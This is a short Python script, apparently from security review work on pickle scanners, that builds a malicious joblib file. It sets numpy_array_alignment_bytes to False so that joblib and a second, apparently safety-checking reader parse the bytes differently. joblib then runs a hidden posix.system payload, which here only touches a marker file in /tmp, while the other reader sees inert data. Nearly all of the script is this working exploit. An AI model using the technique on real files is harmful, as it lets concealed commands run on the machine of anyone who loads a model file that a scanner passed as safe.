# joblib file whose NumpyArrayWrapper state has numpy_array_alignment_bytes = False (not None).
# joblib's read_array reads the padding byte whenever the attribute `is not None`; a reader that
# treats False like "absent" steps over the array right at the BUILD and reads the padding as
# opcodes. joblib instead skips 1 + 32 padding bytes, reads the 1-byte array, then runs the payload
# that the other reader sees as the text of a BINBYTES.
import struct, os
import sys; here = sys.argv[1]
out = os.path.join(here, "review37-joblib_align_false.joblib")
marker = b"/tmp/r37-pwned-joblib-align-false"
head = (b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\nq\x00)\x81q\x01}q\x02(X\x08\x00\x00\x00subclassq\x03"
        b"cnumpy\nndarray\nq\x04X\x05\x00\x00\x00shapeq\x05K\x01\x85q\x06X\x05\x00\x00\x00orderq\x07X\x01\x00\x00\x00Cq\x08"
        b"X\x05\x00\x00\x00dtypeq\tcnumpy\ndtype\nq\nX\x02\x00\x00\x00u1q\x0b\x89\x88\x87q\x0cRq\r(K\x03X\x01\x00\x00\x00|q\x0e"
        b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tq\x0fbX\n\x00\x00\x00allow_mmapq\x10\x88"
        b"X\x1b\x00\x00\x00numpy_array_alignment_bytesq\x11"
        b"\x89"          # NEWFALSE where joblib.dump writes K\x10 (16)
        b"ub")           # SETITEMS, BUILD
N = 0x20                                   # joblib: padding length; a plain unpickler: not an opcode
P = b"0cposix\nsystem\n(S'touch " + marker + b"'\ntR."    # what joblib runs
tail = bytes([N])                          # at+0: padding length (joblib) / the 1-byte array (other)
tail += b"B" + struct.pack("<I", 28 + len(P))   # at+1..6: other reader: BINBYTES over the payload
tail += b"\x00" * (N - 5)                  # rest of joblib padding (at+6 .. at+33)
tail += b"\x00"                            # at+33: joblib's 1-byte array
tail += P                                  # at+34: joblib runs this
tail += b"."                               # other reader: STOP after its BINBYTES
assert len(tail) == 1 + 5 + (N - 5) + 1 + len(P) + 1
open(out, "wb").write(head + tail)
print(out)
